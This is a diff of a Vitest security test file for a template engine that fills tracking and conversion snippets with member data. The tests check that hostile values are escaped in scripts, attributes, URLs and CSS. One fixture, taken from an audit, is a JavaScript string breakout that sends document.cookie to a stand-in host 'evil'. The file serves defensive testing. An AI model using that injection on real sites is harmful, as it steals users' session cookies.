@@ -1,13 +1,17 @@
 import { describe, expect, it } from 'vitest';
-import { fillTemplate, type TemplateMember } from '../../src/core/texts/template';
+import { escapeHtml, fillTemplate, type TemplateMember } from '../../src/core/texts/template';
 import { EMAIL_PAYLOAD, PAYLOADS, URL_PAYLOAD } from '../browser/security-payloads';
 
 /**
  * The owner's tracking and conversion snippets put placeholders in script strings, template literals, comments,
  * code, attributes (quoted, unquoted, handlers, URLs, style) and text. A member's data must reach each place as
  * that data and never end it: the audit's names (`\` then `-fetch(…)});//`) broke out of a JS string when
- * values were only HTML-escaped, and a space got through an unquoted attribute.
+ * values were only HTML-escaped, and a space got through an unquoted attribute. In a script's strings (and a
+ * handler's) the data arrives HTML-escaped, as the spec's placeholders are: snippets hand such strings to HTML
+ * sinks (innerHTML), where raw markup would run.
  */
+/** What a script's string holds: the value, HTML-escaped (a number in code stays a number). */
+const js = (v: unknown) => (typeof v === 'number' ? v : escapeHtml(String(v)));
 const AUDIT = { firstName: '\\', lastName: "-fetch('//evil/?'+document.cookie)});//" };
 const HOSTILE = [
   ...PAYLOADS,
@@ -58,23 +62,25 @@ const members: TemplateMember[] = [
 
 describe('tracking and conversion snippets with hostile member data in every placeholder', () => {
   for (const [i, m] of members.entries()) {
-    it(`member ${i}: the tracking snippet's script, attributes and text hold the data as it is`, () => {
+    it(`member ${i}: the tracking snippet's script, attributes and text hold the data and nothing else`, () => {
       const { pushed, executed, box } = run(fillTemplate(TRACKING, m));
       expect(executed).toBe(0);
-      expect(pushed).toEqual([{ first: m.firstName, last: m.lastName, name: m.name, email: m.email, id: m.id }, m.firstName]);
+      expect(pushed).toEqual([{ first: js(m.firstName), last: js(m.lastName), name: js(m.name), email: js(m.email), id: js(m.id) }, js(m.firstName)]);
       expect([...box.querySelectorAll('*')].map((e) => e.localName)).toEqual(['script', 'img', 'a']);
       const img = box.querySelector('img')!;
       expect(img.getAttributeNames()).toEqual(['src', 'alt', 'title', 'data-n']);
       expect([img.getAttribute('alt'), img.getAttribute('title'), img.getAttribute('data-n')]).toEqual([m.firstName, m.lastName, m.name]);
       const link = box.querySelector('a')!;
       expect(link.getAttributeNames()).toEqual(['href', 'onclick']);
-      expect(link.getAttribute('href')).toBe(`/welcome?e=${encodeURIComponent(String(m.email))}`);
+      const href = link.getAttribute('href')!;
+      expect(href).toMatch(/^\/welcome\?e=[A-Za-z0-9%]*$/);
+      expect(decodeURIComponent(href.slice('/welcome?e='.length))).toBe(String(m.email));
       expect(link.textContent).toBe(m.name);
     });
-    it(`member ${i}: the conversion snippet's comments, code, template literal and CSS hold the data as it is`, () => {
+    it(`member ${i}: the conversion snippet's comments, code, template literal and CSS hold the data and nothing else`, () => {
       const { pushed, executed, box } = run(fillTemplate(CONVERSION, m));
       expect(executed).toBe(0);
-      expect(pushed).toEqual([{ who: m.firstName, tpl: `Hi ${m.lastName} ${m.email}`, id: m.id }]);
+      expect(pushed).toEqual([{ who: js(m.firstName), tpl: `Hi ${js(m.lastName)} ${js(m.email)}`, id: js(m.id) }]);
       expect([...box.querySelectorAll('*')].map((e) => e.localName)).toEqual(['script', 'style', 'div']);
       // CSS escapes leave letters, digits, spaces and backslashes: nothing ends the string or the rule.
       expect(box.querySelector('style')!.textContent).toMatch(/^\.x::after\{content:"[A-Za-z0-9 \\]*"\}$/);
